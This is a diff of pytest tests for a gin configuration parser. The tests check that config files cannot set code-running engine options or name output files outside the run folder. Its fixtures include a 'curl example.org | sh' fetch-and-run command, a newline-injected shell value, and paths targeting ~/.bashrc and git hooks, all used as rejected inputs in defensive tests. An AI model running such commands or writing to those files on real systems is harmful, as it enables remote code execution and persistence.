@@ -5,6 +5,7 @@ from __future__ import annotations
 import os
 from collections.abc import Sequence
 from pathlib import Path
+from typing import Any
 
 import gin
 import pytest
@@ -18,7 +19,7 @@ from multiberts.tests import warm
 CONFIGS = Path(__file__).parents[3] / "configs"
 
 
-def parse(*files: Path, typed: Sequence[str] = (), **options: bool) -> None:
+def parse(*files: Path, typed: Sequence[str] = (), **options: Any) -> None:
     with gin.unlock_config():
         gin.clear_config()
         try:
@@ -54,6 +55,54 @@ def test_nothing_shipped_needs_a_reference() -> None:
     assert len(shipped) > 30
     for file in shipped:
         assert "@" not in "".join(line.partition("#")[0] for line in file.open()), file
+
+
+CODE = "{'worker_init': 'curl example.org | sh'}"
+
+
+@pytest.mark.parametrize(
+    ("text", "named"),
+    [
+        ("finetune.task_modules = ['evil']", "task_modules"),
+        ("prepare.scheduler = 'tcp://example.org:8786'", "scheduler"),
+        (f"run.engine_options = {CODE}", "worker_init"),
+        (f"OPTIONS = {CODE}\nrun.engine_options = %OPTIONS", "worker_init"),
+        ("INIT = 'sh'\nrun.engine_options = {'worker_init': %INIT}", "worker_init"),
+        ("run.engine_options = {'python': '/tmp/python'}", "python"),
+        ("run.engine_options = {'scheduler': 'tls://example.org:8786'}", "scheduler"),
+        ("run.engine_options = {'scheduler_options': '--output=/tmp/x'}", "scheduler_options"),
+        ("run.engine_options = {'task': 'evil.yaml'}", "task"),
+        ("run.engine_options = {'partition': 'gpu\\nsh'}", "partition"),
+    ],
+)
+def test_what_runs_code_is_told_by_the_user(tmp_path: Path, text: str, named: str) -> None:
+    inner, outer = tmp_path / "inner.gin", tmp_path / "outer.gin"
+    inner.write_text(text + "\n")
+    outer.write_text(f"include '{inner}'\n")
+    for file in (inner, outer):
+        with pytest.raises(
+            UserError, match=rf"inner\.gin line \d sets {named}, whose code would run"
+        ):
+            parse(file)
+    # The cures: typed, with its macros, or trusted.
+    binding = text.partition("\n")[2] or text
+    unbound: dict[str, object] = {}
+    for typed in (text.split("\n"), [binding, text.split("\n")[0]]):
+        with pytest.raises(
+            UserError, match="Gin knows no"
+        ):  # the functions are not registered here
+            parse(inner, typed=typed, functions=unbound)
+    with pytest.raises(UserError, match="Gin knows no"):
+        parse(inner, allow_imports=True)
+
+
+def test_shipped_files_may_name_their_own_code() -> None:
+    options = {"BUCKET": "'gs://b/f'"}
+    with pytest.raises(UserError, match="Gin knows no"):
+        parse(
+            CONFIGS / "launch" / "tpu.gin",
+            typed=[f"{name} = {value}" for name, value in options.items()],
+        )
 
 
 def test_a_text_with_the_sign_of_a_reference_is_data(tmp_path: Path) -> None:
@@ -158,6 +207,64 @@ def test_a_flag_sets_the_macro_that_its_parameter_is_bound_to(tmp_path: Path) ->
         bound(d=2)
     with pytest.raises(UserError, match=r"uses D, .*--d=\.\.\.$"):
         bound(a="x")
+
+
+def compare(csv: str = "", run_dir: str = "") -> None:
+    """Stands for a command that writes a named file."""
+
+
+@pytest.mark.parametrize(
+    ("path", "is_near"),
+    [
+        ("table.csv", True),
+        ("./tables/table.csv", True),
+        ("$HERE/tables/../table.csv", True),
+        ("$HOME/run/table.csv", True),
+        ("~/run/../.bashrc", False),
+        ("~/.bashrc", False),
+        ("~/table.csv", False),
+        ("../table.csv", False),
+        (".git/hooks/post-checkout", False),
+        ("link/table.csv", False),
+        ("data:table.csv", False),
+    ],
+)
+def test_a_file_names_files_below_the_folder_or_the_run(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, path: str, is_near: bool
+) -> None:
+    here, home = tmp_path / "here", tmp_path / "home"
+    here.mkdir()
+    home.mkdir()
+    (here / "link").symlink_to(home)
+    monkeypatch.setenv("HOME", str(home))
+    monkeypatch.setenv("HERE", str(here))
+    monkeypatch.chdir(here)
+    macro = f"DATA = '/data'\nOUT = {path!r}\n"
+    run = {"compare.run_dir": f"{home}/run", "compare.csv": None}
+
+    def bound(file: str, typed: Sequence[str] = (), **flags: str) -> Any:
+        (here / "a.gin").write_text(macro + file)
+        with gin.unlock_config():
+            gin.clear_config()
+            gin.external_configurable(compare, name="compare")
+            try:
+                given = run | {f"compare.{name}": value for name, value in flags.items()}
+                parse_gin(["a.gin"], typed, {"compare": compare}, given=given)
+                return gin.get_bindings("compare")["csv"]
+            finally:
+                gin.clear_config()
+
+    for file in (f"compare.csv = {path!r}\n", "compare.csv = %OUT\n"):
+        if is_near:
+            assert bound(file) == path
+        else:
+            with pytest.raises(UserError, match=r"a\.gin line \d names .*give --csv=") as refused:
+                bound(file)
+            assert path in str(refused.value)
+        # What the user tells counts.
+        assert bound(file, csv=path) == path
+        assert bound(file, [f"compare.csv = {path!r}"]) == path
+        assert bound(file, [f"OUT = {path!r}", "compare.csv = %OUT"]) == path
 
 
 WORLD = "make_world.num_documents = 40"
